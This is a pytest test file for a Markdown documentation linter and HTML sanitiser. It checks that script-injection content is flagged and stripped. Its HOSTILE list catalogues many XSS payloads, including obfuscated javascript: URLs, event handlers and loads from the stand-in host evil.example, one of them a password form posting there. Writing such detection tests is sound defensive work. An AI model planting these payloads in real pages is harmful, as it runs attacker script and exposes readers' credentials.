"""Script injection: what could run in a reader's browser is found by KB803 or KB804, and the sanitiser strips it."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import markdown
import nh3
import pytest

from kb_tools.check.registry import all_rules
from kb_tools.check.rules import kb8_markup
from kb_tools.load.pages import PageFile, PageSettings, parse_page
from kb_tools.model.allowed_html import TAGS, URL_ATTRIBUTES, URL_SCHEMES, is_allowed_attribute, sanitise
from kb_tools.model.diagnostic import Finding
from kb_tools.model.dialect import EXTENSIONS

HOSTILE = [
    # tags that run or load something
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/x>alert(1)</script>",
    "<script\n>alert(1)</script>",
    "text <script>alert(1)</script> text",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<script>alert("unclosed',
    "<img src=x onerror=alert(1)>",
    '<p/title="x"/onclick=alert(1)>',
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=x\nonerror=alert(1)>",
    "<img src=x onerror\n= alert(1)>",
    '<img title="a>b" src=x onerror=alert(1)>',
    '<b "><img src=x onerror=alert(1)>">bold</b>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></mtext></math>",
    '<math href="javascript:alert(1)">x</math>',
    "<body onload=alert(1)>",
    "<html onclick=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:text/html,<script>alert(1)</script>">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="//evil.example/">',
    '<link rel=stylesheet href="//evil.example/x.css">',
    "<style>@import '//evil.example/x.css';</style>",
    '<p style="background:url(javascript:alert(1))">x</p>',
    '<div style="position:fixed;inset:0">x</div>',
    '<form action="//evil.example"><input name=password></form>',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<input type="text" autofocus onfocus=alert(1)>',
    "<select autofocus onfocus=alert(1)></select>",
    '<isindex action="javascript:alert(1)" type=submit>',
    '<img srcset="x 1x" src=x onload=alert(1)>',
    '<img src="javascript:alert(1)">',
    '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
    "<template><script>alert(1)</script></template>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>',
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<?xml-stylesheet href='javascript:alert(1)'?><img src=x onerror=alert(1)>",
    "<![CDATA[ <img src=x onerror=alert(1)> ]]>",
    # where Markdown puts it
    "# Heading <img src=x onerror=alert(1)>",
    "Heading <script>alert(1)</script>\n====",
    "- item <img src=x onerror=alert(1)>",
    "> quote\n> <script>alert(1)</script>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    '!!! note "<img src=x onerror=alert(1)>"\n    text',
    "!!! note\n\n    first\n\n    <script>alert(1)</script>",
    '??? note "x"\n    <script>alert(1)</script>',
    "word[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "term\n:   <img src=x onerror=alert(1)>",
    "- [x] <img src=x onerror=alert(1)>",
    "<div markdown=1>\n*a* <img src=x onerror=alert(1)>\n</div>",
    "[<img src=x onerror=alert(1)>](about.md)",
    "[[mail|<img src=x onerror=alert(1)>]]\n\n```\nnever closed",
    # text that only looks like code or a comment
    "```html\n<script>alert(1)</script>",
    "~~~\n<script>alert(1)</script>\n```",
    "`` `<script>alert(1)</script>",
    "<!--> <script>alert(1)</script> -->",
    "<!---> <script>alert(1)</script> -->",
    "<!-- --!> <script>alert(1)</script> -->",
    "`<!--` <script>alert(1)</script> `-->`",
    "<!--\ntwo lines\n--> <script>alert(1)</script>",
    "<scr<!-- -->ipt>alert(1)</scr<!-- -->ipt>",
    "<<!-- -->script>alert(1)</script>",
    "--> <script>alert(1)</script>",
    "<[[wang-lei|img src=x onerror=alert(1)]]>",
    '<a title="`"> <script>alert(1)</script> `">',
    # attribute lists
    "[x](about.md){: onclick=alert(1) }",
    '[x](about.md){ .button onclick="alert(1)" }',
    "[x](about.md){onmouseover=alert(1)}",
    "paragraph\n{: onclick=alert(1) }",
    '## Heading {: #a onclick="alert(1)" }',
    "## Heading {onclick=alert(1)",
    '![x](y.png){ onerror="alert(1)" }',
    "`code`{ onclick=alert(1) }",
    "*em*{ style=position:fixed }",
    '[x](about.md){ title="a}" onclick="alert(1)" }',
    "| a {: onclick=alert(1) } |\n|---|\n| b |",
    '- item\n{: onclick="alert(1)" }',
    "[x](about.md){ formaction=javascript:alert(1) }",
    '``` { .python onclick="alert(1)" }\nx\n```',
    "[x](y){: title='<p title=\"a onclick=alert(1) b\">' }",
    # code with a quotation mark that Python-Markdown does not escape in an attribute
    '[x](`" onclick=alert(1) a="`)',
    '[x](<`" onclick=alert(1) a="`>)',
    '![`"onerror=alert(1)//`](y.png)',
    '[x](about.md "`" onclick=alert(1) a="`")',
    # addresses
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](<java script:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java&Tab;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61vascript:alert(1))",
    "[x](&#0000106avascript:alert(1))",
    "[x](\njavascript:alert(1))",
    "[x](\njava&#115;cript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[![x](y.png)](javascript:alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "[x][1]\n\n[1]: <javascript:alert(1)>",
    "[x][1]\n\n[1]:\n  javascript:alert(1)",
    "[x]\n\n[x]: data:text/html,<script>alert(1)</script>",
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<data:text/html,x>",
    '<a href="javascript:alert(1)">x</a>',
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a\nhref="javascript:alert(1)">x</a>',
    "[x](file:///etc/passwd)",
    "[x](about.md){ href=javascript:alert(1) }",
    "- [x](javascript:alert(1))\n- [ ] [y](javascript:alert(2))",
]

#: Looks like an attack, and is text once Markdown is done with it.
DEFUSED = [
    "<img src=x onerror=alert(1)",
    "<img/src=x/onerror=alert(1)>",
    '<img/src="x"/onerror=alert(1)>',
    "<img src=x onerror\n=\nalert(1)>",
    "< script>alert(1)</ script>",
    "<\nscript>alert(1)<\n/script>",
    "\\<script",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "[x](javascript%3Aalert(1))",
    "[x](./javascript:alert(1))",
    "＜script＞alert(1)＜/script＞",
]

HARMLESS = [
    "a < b and c > d, x <- y, p -> q, <= and >=",
    "Fewer than <10 or < 10, 1<2, i<n",
    "Press <kbd>Ctrl</kbd>+<kbd>C</kbd>",
    "First line<br>second line<br/>third<br />",
    "H<sub>2</sub>O, m<sup>2</sup>, <mark>marked</mark>, <abbr title='service level agreement'>SLA</abbr>",
    "`List<String>` and `<hostname>` in code",
    "```java\nMap<String, List<Integer>> m = new HashMap<>();\n```",
    "```html\n<script>alert(1)</script>\n<img src=x onerror=alert(1)>\n```",
    "~~~\n<iframe src=x></iframe>\n~~~",
    "text\n\n    <script>indented code</script>",
    "1. item\n\n    ```xml\n    <config onload='x'/>\n    ```\n2. item",
    "Mail <it@huacheng.example> or see <https://huacheng.example/a?b=c>",
    "[mail](mailto:it@huacheng.example) [phone](tel:8000) [web](https://huacheng.example)",
    "[relative](../a.md#b) [fragment](#c:d) [image](img/a:b.png) [//](//huacheng.example)",
    "<details markdown='1'>\n<summary>More</summary>\n\n*text*\n\n</details>",
    "<details open><summary>More</summary>text</details>",
    "| left | right |\n|:-----|------:|\n| 1 | `<b>` |",
    "word[^1]\n\n[^1]: A footnote with `<code>`.",
    "term\n:   A definition.",
    '!!! warning "Mind the <5 minutes"\n    Text.',
    "- [x] done\n- [ ] to do",
    "<!-- a comment with <script> in it -->\n\ntext",
    "[x](https://huacheng.example){target=_blank} and [y](a.md){ .button #id title='a' }",
    '![a queue](queue.png){ width="300" loading=lazy }',
    "## Heading {#anchor .class}",
    '``` { .python title="a.py" linenums="1" hl_lines="2" }\nx = {1: "<b>"}\n```',
    "Set `{\"a\": 1}` or ${VAR}, {placeholder}, {{ 'x' }} and {a, b}",
    'JSON:\n\n```json\n{"onclick": "x", "style": "y"}\n```',
    "[[mail]], [[mail|the mail service]] and [[incident-management#log]]",
    "<服务器名> and <填写> are no tags, nor is <3",
    "data: the figures; javascript: a language; file: a thing; time 10:30",
    "`[x](javascript:alert(1))` in code",
    '[link](a.md) next to `"quoted code"`',
    "<table><tr><td colspan=2 align=right>cell</td></tr></table>",
    "<figure><img src='a.png' alt='a' width=300><figcaption>b</figcaption></figure>",
    '<a id="anchor"></a><a name="old-anchor"></a>\n\n<div class="grid" markdown>\ntext\n</div>',
    "5 &lt; 6 &amp;&amp; 7 &gt; 6, &copy; &nbsp; &#169;",
]


class _Live(HTMLParser):
    """Collects what a browser would act on and the allow-list does not name."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in TAGS:
            self.found.append(tag)
        for name, value in attrs:
            if not is_allowed_attribute(tag, name, value or ""):
                self.found.append(f"{tag} {name}")
            address = re.sub(r"[\t\n\r]", "", value or "").lstrip("".join(map(chr, range(33))))
            scheme = re.match(r"([a-zA-Z][\w+.-]*):", address) if name in URL_ATTRIBUTES else None
            if scheme and scheme[1].lower() not in URL_SCHEMES:
                self.found.append(scheme[0])


def findings(body: str) -> list[Finding]:
    file = PageFile("docs/a.md", "a.md", "zh", f"---\ntitle: A\n---\n{body}\n".encode())
    page = parse_page(file, PageSettings("zh", ()))
    rules = all_rules()
    return [finding for code in ("KB803", "KB804") for finding in rules[code].page(page)]  # type: ignore[misc]


def converted(body: str) -> str:
    configs = {name: dict(options) for name, options in EXTENSIONS.items() if options}
    return markdown.markdown(body, extensions=list(EXTENSIONS), extension_configs=configs)


def live(markup: str) -> list[str]:
    parser = _Live()
    parser.feed(markup)
    parser.close()
    return parser.found


@pytest.mark.parametrize("body", HOSTILE)
def test_what_could_run_is_found(body: str) -> None:
    found = findings(body)
    assert found
    lines = body.count("\n") + 1
    assert all(4 <= finding.where.line < 4 + lines for finding in found)


@pytest.mark.parametrize("body", HOSTILE + DEFUSED + HARMLESS)
def test_nothing_that_runs_survives_the_sanitiser(body: str) -> None:
    clean = sanitise(converted(body))
    assert live(clean) == []
    assert sanitise(clean) == clean


@pytest.mark.parametrize("body", DEFUSED)
def test_what_is_only_text_does_nothing(body: str) -> None:
    assert live(converted(body)) == []


@pytest.mark.parametrize("body", HARMLESS)
def test_harmless_text_is_left_alone(body: str) -> None:
    assert findings(body) == []


@pytest.mark.parametrize("body", HARMLESS)
def test_harmless_text_loses_nothing_to_the_sanitiser(body: str) -> None:
    markup = converted(body)
    loose = nh3.clean(
        markup,
        tags=TAGS | {"script", "style", "iframe", "form", "svg", "b"},
        clean_content_tags=set(),
        generic_attribute_prefixes={""},
        url_schemes=set(URL_SCHEMES),
        attributes={},
    )
    assert sanitise(markup) == loose


def test_what_the_converter_cannot_digest_is_taken_at_its_worst(monkeypatch: pytest.MonkeyPatch) -> None:
    def refuse(text: str) -> str:
        raise RecursionError

    monkeypatch.setattr(kb8_markup, "_convert", refuse)
    assert findings("<img src=x onerror=alert(1)>")
    assert findings("`<img src=x onerror=alert(1)>` in code") == []


def test_a_hundred_thousand_brackets_do_not_stop_a_check() -> None:
    assert findings("<script>x</script>" + "[" * 100_000)
    assert findings("[" * 3_000 + "\n\n<img src=x onerror=alert(1)>")
    assert findings("x\n" * 5_000 + "\n[x](a){ onclick=alert(1) }\n")
